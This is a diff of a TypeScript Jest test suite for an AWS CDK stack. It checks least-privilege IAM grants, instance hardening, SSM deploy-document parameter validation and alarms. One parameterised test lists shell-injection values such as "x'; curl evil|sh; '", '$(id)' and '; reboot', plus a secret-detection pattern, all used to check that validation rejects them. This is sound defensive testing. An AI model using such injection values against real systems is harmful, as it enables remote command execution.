@@ -1,12 +1,15 @@
-import { App, type CfnElement } from 'aws-cdk-lib';
+import { App, Validations, type CfnElement } from 'aws-cdk-lib';
 import { Annotations, Capture, Match, Template } from 'aws-cdk-lib/assertions';
 import type { AwsSolutionsChecks } from 'cdk-nag';
 import type { IConstruct } from 'constructs';
 import cdkJson from '../../cdk.json';
 import { GATEWAY_RESPONSES, METHOD_NOT_ALLOWED, gatewayErrorBody } from '../../lambdas/api/gateway-responses';
 import { ROUTES } from '../../lambdas/api/routes';
-import { PROVISION_CUSTOMER } from '../../statemachines/workflows';
+import './handler-env';
+import { METRICS } from '../../lambdas/core/metric-names';
+import { PROVISION_CUSTOMER, type StepAccess, type WorkflowStep } from '../../statemachines/workflows';
 import { applyNagChecks } from '../../lib/nag';
+import { taskTimeouts } from '../../lib/provisioning-workflow';
 import { StackProStack } from '../../lib/stackpro-stack';
 
 // One synth for the whole file (a few seconds); bundling is skipped, so no esbuild run and no Docker.
@@ -24,7 +27,7 @@ beforeAll(() => {
   template = Template.fromStack(stack);
 });
 
-type Statement = { Action: string | string[]; Resource: unknown; Effect: string };
+type Statement = { Action: string | string[]; Resource: unknown; Effect: string; Condition?: Record<string, Record<string, unknown>> };
 type Resource = { Type: string; Properties: Record<string, unknown> };
 
 function logicalId(construct: IConstruct): string {
@@ -54,6 +57,11 @@ function statementsOfRole(roleLogicalId: string): Statement[] {
 function actionsOf(fn: { role?: IConstruct }): string[] {
   if (!fn.role) throw new Error('function has no role');
   return statementsOfRole(logicalId(fn.role)).flatMap((statement) => [statement.Action].flat());
+}
+
+/** JSON text of a template fragment, for matching ARNs built with Fn::Join. */
+function text(value: unknown): string {
+  return JSON.stringify(value);
 }
 
 function environmentOf(construct: IConstruct): Record<string, unknown> {
@@ -358,10 +366,378 @@ describe('ProvisioningWorkflow', () => {
   it('may invoke exactly its step functions', () => {
     const statements = statementsOfRole(logicalId(stack.provisioning.stateMachine.role));
     const invoke = statements.filter((statement) => [statement.Action].flat().includes('lambda:InvokeFunction'));
-    const resources = invoke.flatMap((statement) => [statement.Resource].flat());
-    expect(resources).toEqual(
-      Object.values(stack.provisioning.stepFunctions).map((fn) => ({ 'Fn::GetAtt': [logicalId(fn), 'Arn'] })),
+    const resources = invoke.flatMap((statement) => [statement.Resource].flat()).map((resource) => JSON.stringify(resource));
+    expect(resources.sort()).toEqual(
+      Object.values(stack.provisioning.stepFunctions)
+        .map((fn) => JSON.stringify({ 'Fn::GetAtt': [logicalId(fn), 'Arn'] }))
+        .sort(),
     );
+  });
+});
+
+describe('Provisioning steps', () => {
+  const steps = Object.entries(PROVISION_CUSTOMER.steps).map(([key, step]) => [step.id, key, step] as const);
+  const customerDomain = cdkJson.context['stackpro:customerDomain'];
+  const senderAddress = cdkJson.context['stackpro:senderAddress'];
+
+  /** What each access means in IAM actions: pinned here independently of lib/, so a change is deliberate. */
+  const ACTIONS: Record<StepAccess, readonly string[]> = {
+    'table:read': ['dynamodb:GetItem', 'dynamodb:BatchGetItem', 'dynamodb:Query', 'dynamodb:ConditionCheckItem', 'dynamodb:DescribeTable'],
+    'table:write': ['dynamodb:PutItem', 'dynamodb:UpdateItem', 'dynamodb:DeleteItem', 'dynamodb:BatchWriteItem', 'dynamodb:DescribeTable'],
+    'ec2:launch': ['ec2:RunInstances', 'ec2:CreateTags', 'iam:PassRole'],
+    'ec2:describe': ['ec2:DescribeInstances'],
+    'ec2:terminate': ['ec2:TerminateInstances'],
+    'route53:records': ['route53:ChangeResourceRecordSets', 'route53:ListResourceRecordSets'],
+    'route53:get-change': ['route53:GetChange'],
+    'ses:create-identity': ['ses:CreateEmailIdentity', 'ses:GetEmailIdentity', 'ses:TagResource'],
+    'ses:read-identity': ['ses:GetEmailIdentity'],
+    'ses:delete-identity': ['ses:DeleteEmailIdentity'],
+    'ses:send': ['ses:SendEmail'],
+    'ssm:deploy': ['ssm:SendCommand'],
+    'ssm:read': ['ssm:DescribeInstanceInformation', 'ssm:GetCommandInvocation'],
+  };
+
+  /** The environment each access adds on top of TABLE_NAME (names from lambdas/config.ts). */
+  const ENVIRONMENT: Record<StepAccess, readonly string[]> = {
+    'table:read': [],
+    'table:write': [],
+    'ec2:launch': ['LAUNCH_TEMPLATE_ID', 'SUBNET_IDS'],
+    'ec2:describe': [],
+    'ec2:terminate': [],
+    'route53:records': ['HOSTED_ZONE_ID'],
+    'route53:get-change': [],
+    'ses:create-identity': [],
+    'ses:read-identity': [],
+    'ses:delete-identity': [],
+    'ses:send': ['SENDER_ADDRESS'],
+    'ssm:deploy': ['DEPLOY_DOCUMENT_NAME'],
+    'ssm:read': [],
+  };
+
+  function stepFunction(stepId: string) {
+    const fn = Object.values(stack.provisioning.stepFunctions).find((candidate) => candidate.node.id === stepId);
+    if (!fn) throw new Error(`no function for step ${stepId}`);
+    return fn;
+  }
+
+  function statementsOf(stepId: string): Statement[] {
+    return statementsOfRole(logicalId(stepFunction(stepId).role!));
+  }
+
+  /** Statements of every role in the template that allow `action`, with the role's logical id. */
+  function grantsOf(action: string): { role: string; statement: Statement }[] {
+    const policies = Object.values(template.findResources('AWS::IAM::Policy')) as {
+      Properties: { Roles: { Ref: string }[]; PolicyDocument: { Statement: Statement[] } };
+    }[];
+    return policies.flatMap((policy) =>
+      policy.Properties.PolicyDocument.Statement.filter((statement) => [statement.Action].flat().includes(action)).flatMap(
+        (statement) => policy.Properties.Roles.map((role) => ({ role: role.Ref, statement })),
+      ),
+    );
+  }
+
+  const roleOf = (stepId: string) => logicalId(stepFunction(stepId).role!);
+
+  it('has one function per step, with the construct id the workflow table gives it', () => {
+    expect(Object.values(stack.provisioning.stepFunctions).map((fn) => fn.node.id).sort()).toEqual(
+      Object.values(PROVISION_CUSTOMER.steps).map((step) => step.id).sort(),
+    );
+  });
+
+  it.each(steps)('%s gives up before its Task does (Lambda timeout < Task TimeoutSeconds)', (stepId, key) => {
+    const taskTimeout = taskTimeouts(PROVISION_CUSTOMER).get(key);
+    expect(taskTimeout).toBeDefined();
+    expect(resourceOf(stepFunction(stepId)).Properties.Timeout).toBeLessThan(taskTimeout!);
+  });
+
+  it.each(steps)('%s is granted exactly the actions of its access', (stepId, _key, step: WorkflowStep) => {
+    const actions = new Set(statementsOf(stepId).flatMap((statement) => [statement.Action].flat()));
+    const ours = [...actions].filter((action) => !/^(logs|xray):/.test(action)).sort();
+    expect(ours).toEqual([...new Set(step.access.flatMap((access) => ACTIONS[access]))].sort());
+  });
+
+  it.each(steps)('%s gets exactly the environment its access needs', (stepId, _key, step: WorkflowStep) => {
+    const environment = environmentOf(stepFunction(stepId));
+    const shared = ['POWERTOOLS_SERVICE_NAME', 'POWERTOOLS_LOG_LEVEL', 'NODE_OPTIONS', 'TABLE_NAME'];
+    expect(Object.keys(environment).sort()).toEqual(
+      [...new Set([...shared, ...step.access.flatMap((access) => ENVIRONMENT[access])])].sort(),
+    );
+  });
+
+  it('passes the launch settings, zone, document and sender as the handlers read them', () => {
+    const launch = environmentOf(stepFunction('LaunchInstance'));
+    expect(launch.LAUNCH_TEMPLATE_ID).toEqual({ Ref: logicalId(stack.customerInstances.launchTemplate) });
+    expect(text(launch.SUBNET_IDS)).toContain('CustomerInstancesVpcPublicSubnet1');
+    expect(text(launch.SUBNET_IDS)).toContain('CustomerInstancesVpcPublicSubnet2');
+    expect(environmentOf(stepFunction('PointSubdomain')).HOSTED_ZONE_ID).toBe(cdkJson.context['stackpro:hostedZoneId']);
+    expect(environmentOf(stepFunction('DeployApplications')).DEPLOY_DOCUMENT_NAME).toBe('StackPro-DeployApplications');
+    expect(environmentOf(stepFunction('SendWelcomeEmail')).SENDER_ADDRESS).toBe(senderAddress);
+  });
+
+  it('CheckInstance can describe instances but never launch or terminate one', () => {
+    const actions = statementsOf('CheckInstance').flatMap((statement) => [statement.Action].flat());
+    expect(actions).toContain('ec2:DescribeInstances');
+    expect(actions).not.toContain('ec2:RunInstances');
+    expect(actions).not.toContain('ec2:TerminateInstances');
+  });
+
+  it('only TerminateInstances can terminate, and only instances tagged ManagedBy=stackpro', () => {
+    const grants = grantsOf('ec2:TerminateInstances');
+    expect(grants.map((grant) => grant.role)).toEqual([roleOf('TerminateInstances')]);
+    const statement = grants[0]!.statement;
+    expect(text(statement.Resource)).toMatch(/:instance\/\*"/);
+    expect(statement.Condition).toEqual({ StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro' } });
+  });
+
+  it('only LaunchInstance can RunInstances, and only through the launch template, with the tag and plan sizes', () => {
+    const grants = grantsOf('ec2:RunInstances');
+    expect(new Set(grants.map((grant) => grant.role))).toEqual(new Set([roleOf('LaunchInstance')]));
+    const templateRef = { Ref: logicalId(stack.customerInstances.launchTemplate) };
+    for (const { statement } of grants) {
+      expect(text(statement.Condition?.ArnEquals?.['ec2:LaunchTemplate'])).toContain(text(templateRef));
+    }
+    const resources = text(grants.map(({ statement }) => statement.Resource));
+    expect(resources).toContain(`launch-template/",${text(templateRef)}`);
+    expect(resources).toContain(`security-group/",{"Fn::GetAtt":["${logicalId(stack.customerInstances.securityGroup)}","GroupId"]}`);
+    // Images owned by Amazon or this account only: no community or marketplace AMI as an override.
+    const image = grants.find(({ statement }) => text(statement.Resource).includes('::image/*'))!.statement;
+    expect(image.Condition?.StringEquals).toEqual({ 'ec2:Owner': ['amazon', { Ref: 'AWS::AccountId' }] });
+
+    const instance = grants.find(({ statement }) => text(statement.Resource).includes(':instance/*'))!.statement;
+    expect(instance.Condition?.StringEquals).toEqual({
+      'aws:RequestTag/ManagedBy': 'stackpro',
+      'ec2:InstanceType': ['t3.micro', 't3.small', 't3.medium'],
+    });
+    const volume = grants.find(({ statement }) => text(statement.Resource).includes(':volume/*'))!.statement;
+    expect(volume.Condition?.StringEquals).toEqual({ 'aws:RequestTag/ManagedBy': 'stackpro' });
+  });
+
+  it('LaunchInstance can tag only while launching, and pass only the instance role, only to EC2', () => {
+    const tagging = grantsOf('ec2:CreateTags');
+    expect(tagging.map((grant) => grant.role)).toEqual([roleOf('LaunchInstance')]);
+    expect(tagging[0]!.statement.Condition).toEqual({ StringEquals: { 'ec2:CreateAction': 'RunInstances' } });
+
+    const passing = grantsOf('iam:PassRole');
+    expect(passing.map((grant) => grant.role)).toEqual([roleOf('LaunchInstance')]);
+    expect(passing[0]!.statement).toMatchObject({
+      Resource: { 'Fn::GetAtt': [logicalId(stack.customerInstances.instanceRole), 'Arn'] },
+      Condition: { StringEquals: { 'iam:PassedToService': 'ec2.amazonaws.com' } },
+    });
+  });
+
+  it('only the DNS steps can change records, only in the hosted zone and only under the customer domain', () => {
+    const grants = grantsOf('route53:ChangeResourceRecordSets');
+    expect(grants.map((grant) => grant.role).sort()).toEqual(
+      ['PublishDkimRecords', 'PointSubdomain', 'RemoveDnsRecords'].map(roleOf).sort(),
+    );
+    const zoneId = cdkJson.context['stackpro:hostedZoneId'];
+    for (const { statement } of grants) {
+      expect(text(statement.Resource)).toMatch(new RegExp(`:route53:::hostedzone/${zoneId}"`));
+      expect(statement.Condition).toEqual({
+        'ForAllValues:StringLike': { 'route53:ChangeResourceRecordSetsNormalizedRecordNames': [`*.${customerDomain}`] },
+        'ForAllValues:StringEquals': { 'route53:ChangeResourceRecordSetsActions': ['UPSERT', 'DELETE'] },
+      });
+    }
+    for (const { statement } of grantsOf('route53:ListResourceRecordSets')) {
+      expect(text(statement.Resource)).toMatch(new RegExp(`:route53:::hostedzone/${zoneId}"`));
+    }
+    expect(grantsOf('route53:GetChange').map((grant) => grant.role)).toEqual([roleOf('CheckDnsChange')]);
+  });
+
+  it('SES identity actions reach customer subdomain identities only', () => {
+    for (const action of ['ses:CreateEmailIdentity', 'ses:GetEmailIdentity', 'ses:TagResource', 'ses:DeleteEmailIdentity']) {
+      for (const { statement } of grantsOf(action)) {
+        expect(text(statement.Resource)).toContain(`:identity/*.${customerDomain}"`);
+      }
+    }
+    expect(grantsOf('ses:DeleteEmailIdentity').map((grant) => grant.role)).toEqual([roleOf('DeleteEmailIdentity')]);
+  });
+
+  it('only SendWelcomeEmail can send, and only from the sender address', () => {
+    const grants = grantsOf('ses:SendEmail');
+    expect(grants.map((grant) => grant.role)).toEqual([roleOf('SendWelcomeEmail')]);
+    const resources = text(grants[0]!.statement.Resource);
+    expect(resources).toContain(`:identity/${senderAddress}"`);
+    expect(resources).toContain(`:identity/${senderAddress.split('@')[1]}"`);
+    expect(grants[0]!.statement.Condition).toEqual({ StringEquals: { 'ses:FromAddress': senderAddress } });
+  });
+
+  it('only DeployApplications can send commands: the deploy document, on ManagedBy=stackpro instances', () => {
+    const grants = grantsOf('ssm:SendCommand');
+    expect(new Set(grants.map((grant) => grant.role))).toEqual(new Set([roleOf('DeployApplications')]));
+    const document = grants.find(({ statement }) => text(statement.Resource).includes(':document/'))!.statement;
+    expect(text(document.Resource)).toContain(':document/StackPro-DeployApplications"');
+    const instances = grants.find(({ statement }) => text(statement.Resource).includes(':instance/*'))!.statement;
+    expect(instances.Condition).toEqual({ StringEquals: { 'ssm:resourceTag/ManagedBy': 'stackpro' } });
+  });
+
+  it('no step can read the signing key, start executions or touch other secrets', () => {
+    for (const [stepId] of steps) {
+      const actions = statementsOf(stepId).flatMap((statement) => [statement.Action].flat());
+      expect(actions.filter((action) => /^(secretsmanager|states|kms|lambda):/.test(action))).toEqual([]);
+    }
+  });
+
+  it('substitutes every ASL placeholder (no ${ left once CloudFormation applies the substitutions)', () => {
+    const [machine] = Object.values(template.findResources('AWS::StepFunctions::StateMachine')) as Resource[];
+    const definition = machine!.Properties.DefinitionString as string;
+    const substitutions = machine!.Properties.DefinitionSubstitutions as Record<string, unknown>;
+    const substituted = definition.replace(/\$\{([^}]+)\}/g, (placeholder, key: string) => (key in substitutions ? 'arn' : placeholder));
+    expect(substituted).not.toContain('${');
+  });
+});
+
+describe('CustomerInstances', () => {
+  function launchTemplateData(): Record<string, unknown> {
+    const templates = Object.values(template.findResources('AWS::EC2::LaunchTemplate')) as Resource[];
+    expect(templates).toHaveLength(1);
+    return templates[0]!.Properties.LaunchTemplateData as Record<string, unknown>;
+  }
+
+  it('launch template: IMDSv2 only (hop limit 1), no key pair, encrypted gp3 root, the instance profile and security group', () => {
+    const data = launchTemplateData();
+    expect(data).toMatchObject({
+      MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 1 },
+      BlockDeviceMappings: [{ DeviceName: '/dev/xvda', Ebs: { Encrypted: true, VolumeType: 'gp3', VolumeSize: 30, DeleteOnTermination: true } }],
+      ImageId: { Ref: expect.stringMatching(/^SsmParameterValue/) },
+      SecurityGroupIds: [{ 'Fn::GetAtt': [logicalId(stack.customerInstances.securityGroup), 'GroupId'] }],
+      DisableApiTermination: false,
+    });
+    expect(data).not.toHaveProperty('KeyName');
+    // Launch instance passes SubnetId; EC2 refuses that together with template network interfaces.
+    expect(data).not.toHaveProperty('NetworkInterfaces');
+    const profile = template.findResources('AWS::IAM::InstanceProfile');
+    expect(Object.values(profile)).toEqual([
+      expect.objectContaining({ Properties: { Roles: [{ Ref: logicalId(stack.customerInstances.instanceRole) }] } }),
+    ]);
+  });
+
+  it('reads the AMI from the SSM parameter in context at deploy time (offline synth)', () => {
+    const parameters = template.toJSON().Parameters as Record<string, { Type: string; Default: string }>;
+    expect(Object.values(parameters)).toContainEqual({
+      Type: 'AWS::SSM::Parameter::Value<AWS::EC2::Image::Id>',
+      Default: cdkJson.context['stackpro:customerAmiSsmParameter'],
+    });
+  });
+
+  it('tags launched instances and volumes ManagedBy=stackpro, and has no user data with anything in it', () => {
+    const data = launchTemplateData();
+    const tagged = (data.TagSpecifications as { ResourceType: string; Tags: { Key: string; Value: string }[] }[])
+      .filter((spec) => spec.Tags.some((tag) => tag.Key === 'ManagedBy' && tag.Value === 'stackpro'))
+      .map((spec) => spec.ResourceType);
+    expect(tagged.sort()).toEqual(['instance', 'volume']);
+    const userData = data.UserData as { 'Fn::Base64': string } | undefined;
+    if (userData) expect(userData['Fn::Base64'].trim()).toBe('#!/bin/bash');
+  });
+
+  it('security group: 80 and 443 from anywhere, nothing else inbound (no SSH)', () => {
+    const group = resourceOf(stack.customerInstances.securityGroup).Properties as { SecurityGroupIngress: { FromPort: number; ToPort: number; IpProtocol: string }[] };
+    expect(group.SecurityGroupIngress.map((rule) => [rule.IpProtocol, rule.FromPort, rule.ToPort])).toEqual([
+      ['tcp', 80, 80],
+      ['tcp', 443, 443],
+    ]);
+    const ingress = Object.values(template.findResources('AWS::EC2::SecurityGroupIngress')) as Resource[];
+    expect(ingress).toEqual([]);
+    expect(text(template.findResources('AWS::EC2::SecurityGroup'))).not.toMatch(/"(FromPort|ToPort)":22\b/);
+  });
+
+  it('public subnets only, no NAT gateway, VPC flow logs to CloudWatch', () => {
+    template.resourceCountIs('AWS::EC2::NatGateway', 0);
+    const subnets = Object.values(template.findResources('AWS::EC2::Subnet')) as Resource[];
+    expect(subnets.length).toBeGreaterThanOrEqual(2);
+    for (const subnet of subnets) expect(subnet.Properties.MapPublicIpOnLaunch).toBe(true);
+    template.hasResourceProperties('AWS::EC2::FlowLog', { ResourceType: 'VPC', LogDestinationType: 'cloud-watch-logs', TrafficType: 'ALL' });
+  });
+
+  it('the instance role talks to the SSM agent endpoints and reads customer parameters only', () => {
+    const statements = statementsOfRole(logicalId(stack.customerInstances.instanceRole));
+    const parameterReads = statements.filter((statement) => [statement.Action].flat().some((action) => action.startsWith('ssm:GetParameter')));
+    expect(parameterReads).toHaveLength(1);
+    expect(text(parameterReads[0]!.Resource)).toMatch(/:parameter\/stackpro\/customers\/\*"/);
+    const role = resourceOf(stack.customerInstances.instanceRole).Properties;
+    expect(role).not.toHaveProperty('ManagedPolicyArns');
+  });
+});
+
+describe('DeployDocument', () => {
+  function documentContent() {
+    const documents = Object.values(template.findResources('AWS::SSM::Document')) as Resource[];
+    expect(documents).toHaveLength(1);
+    expect(documents[0]!.Properties).toMatchObject({ Name: 'StackPro-DeployApplications', DocumentType: 'Command', UpdateMethod: 'NewVersion' });
+    return documents[0]!.Properties.Content as {
+      schemaVersion: string;
+      parameters: Record<string, { type: string; allowedPattern: string }>;
+      mainSteps: { action: string; inputs: { runCommand: unknown[] } }[];
+    };
+  }
+
+  it('is a schema 2.2 shell script with exactly the three parameters Deploy applications sends', () => {
+    const content = documentContent();
+    expect(content.schemaVersion).toBe('2.2');
+    expect(Object.keys(content.parameters).sort()).toEqual(['CustomerId', 'Plan', 'Subdomain']);
+    expect(content.mainSteps.map((step) => step.action)).toEqual(['aws:runShellScript']);
+  });
+
+  it.each([
+    ['CustomerId', '0b6f0f8e-5d0a-4c59-9a3e-2f1b8c7d6e5f', ["x'; curl evil|sh; '", '../other-customer', '']],
+    ['Subdomain', `acme-co.${cdkJson.context['stackpro:customerDomain']}`, ['acme.evil.example', `a b.${cdkJson.context['stackpro:customerDomain']}`, `$(id).${cdkJson.context['stackpro:customerDomain']}`]],
+    ['Plan', 'business', ['business; reboot', 'gold']],
+  ])('%s admits %s and nothing that could break out of the shell', (name, valid, invalid) => {
+    const pattern = new RegExp(documentContent().parameters[name]!.allowedPattern);
+    expect(pattern.test(valid)).toBe(true);
+    for (const value of invalid) expect(pattern.test(value)).toBe(false);
+  });
+
+  it('embeds no secret: secrets are read from Parameter Store at run time', () => {
+    const script = text(documentContent().mainSteps[0]!.inputs.runCommand);
+    expect(script).toContain('get-parameters-by-path --path \\"/stackpro/customers/$CUSTOMER_ID/\\"');
+    expect(script).not.toMatch(/password=|secret=|AKIA|BEGIN (RSA|EC|PRIVATE)/i);
+  });
+});
+
+describe('ProvisioningAlarms', () => {
+  it('alarms on the metrics mark-provisioning-failed emits, as Powertools emits them', () => {
+    for (const metricName of [METRICS.provisioningFailed, METRICS.rollbackIncomplete]) {
+      template.hasResourceProperties('AWS::CloudWatch::Alarm', {
+        Namespace: METRICS.namespace,
+        MetricName: metricName,
+        // Powertools' default dimension: service = POWERTOOLS_SERVICE_NAME / serviceName.
+        Dimensions: [{ Name: 'service', Value: 'stackpro' }],
+        Statistic: 'Sum',
+        Period: 300,
+        Threshold: 1,
+        ComparisonOperator: 'GreaterThanOrEqualToThreshold',
+        EvaluationPeriods: 1,
+        TreatMissingData: 'notBreaching',
+        AlarmActions: [{ Ref: logicalId(stack.provisioningAlarms.topic) }],
+      });
+    }
+  });
+
+  it.each(['ExecutionsFailed', 'ExecutionsTimedOut'])('alarms on the state machine %s', (metricName) => {
+    template.hasResourceProperties('AWS::CloudWatch::Alarm', {
+      Namespace: 'AWS/States',
+      MetricName: metricName,
+      Dimensions: [{ Name: 'StateMachineArn', Value: { Ref: logicalId(stack.provisioning.stateMachine) } }],
+      Statistic: 'Sum',
+      Threshold: 1,
+      ComparisonOperator: 'GreaterThanOrEqualToThreshold',
+      AlarmActions: [{ Ref: logicalId(stack.provisioningAlarms.topic) }],
+    });
+  });
+
+  it('notifies a topic that refuses unencrypted publishing, and outputs its ARN', () => {
+    template.resourceCountIs('AWS::CloudWatch::Alarm', 4);
+    template.hasResourceProperties('AWS::SNS::TopicPolicy', {
+      PolicyDocument: {
+        Statement: Match.arrayWith([
+          Match.objectLike({ Effect: 'Deny', Condition: { Bool: { 'aws:SecureTransport': 'false' } } }),
+        ]),
+      },
+    });
+    template.hasOutput('AlarmTopicArn', { Value: { Ref: logicalId(stack.provisioningAlarms.topic) } });
+    // cdk.json sets no stackpro:alarmEmail, so nothing is subscribed.
+    template.resourceCountIs('AWS::SNS::Subscription', 0);
   });
 });
 
@@ -380,7 +756,7 @@ describe('IAM least privilege', () => {
   });
 
   it('no function may Scan the table (every access pattern is a GetItem or a Query)', () => {
-    const functions = [...ROUTES.map((route) => routeFunction(route.id))];
+    const functions = [...ROUTES.map((route) => routeFunction(route.id)), ...Object.values(stack.provisioning.stepFunctions)];
     for (const fn of functions) expect(actionsOf(fn)).not.toContain('dynamodb:Scan');
   });
 
@@ -411,7 +787,7 @@ describe('IAM least privilege', () => {
     }
   });
 
-  it('uses Resource "*" only for X-Ray and log delivery (the acknowledged IAM5 findings)', () => {
+  it('uses Resource "*" only for actions without resource-level permissions (the acknowledged IAM5 findings)', () => {
     const policies = Object.values(template.findResources('AWS::IAM::Policy')) as {
       Properties: { PolicyDocument: { Statement: Statement[] } };
     }[];
@@ -419,7 +795,15 @@ describe('IAM least privilege', () => {
       .flatMap((policy) => policy.Properties.PolicyDocument.Statement)
       .filter((statement) => statement.Resource === '*')
       .flatMap((statement) => [statement.Action].flat());
-    expect(wildcardActions.filter((action) => !/^(xray:|logs:[A-Za-z]+Log(Delivery|Deliveries|Groups)$|logs:(DescribeResourcePolicies|PutResourcePolicy)$)/.test(action))).toEqual([]);
+    const noResourceLevel =
+      /^(xray:|logs:[A-Za-z]+Log(Delivery|Deliveries|Groups)$|logs:(DescribeResourcePolicies|PutResourcePolicy)$|ec2:DescribeInstances$|ssm:(DescribeInstanceInformation|GetCommandInvocation)$)/;
+    // The SSM agent's channel on customer servers (the Run Command subset of AmazonSSMManagedInstanceCore).
+    const agentChannel = /^(ec2messages:|ssmmessages:|ssm:(UpdateInstanceInformation|ListInstanceAssociations)$)/;
+    expect(wildcardActions.filter((action) => !noResourceLevel.test(action) && !agentChannel.test(action))).toEqual([]);
+    const instanceRoleWildcards = statementsOfRole(logicalId(stack.customerInstances.instanceRole))
+      .filter((statement) => statement.Resource === '*')
+      .flatMap((statement) => [statement.Action].flat());
+    expect(instanceRoleWildcards.filter((action) => !agentChannel.test(action))).toEqual([]);
   });
 
   it('attaches no AWS managed policy except the account-level API Gateway logging role', () => {
@@ -433,6 +817,15 @@ describe('cdk-nag AwsSolutions', () => {
     const report = nagChecks.validateScope(app);
     expect(report.violations.map((violation) => `${violation.ruleName}: ${violation.violatingResources.map((r) => r.constructPath).join(', ')}`)).toEqual([]);
     expect(report.success).toBe(true);
+  });
+
+  it('gives every acknowledgement a reason that says why', () => {
+    const acknowledgements = stack.node
+      .findAll()
+      .flatMap((construct) => construct.node.metadata.filter((entry) => entry.type === Validations.ACKNOWLEDGED_RULES_METADATA_KEY))
+      .flatMap((entry) => Object.entries(entry.data as Record<string, string>));
+    expect(acknowledgements.length).toBeGreaterThan(0);
+    for (const [id, reason] of acknowledgements) expect(`${id}: ${reason.length >= 40 ? 'explained' : reason}`).toBe(`${id}: explained`);
   });
 
   it('leaves no CDK error or warning annotation on the stack', () => {
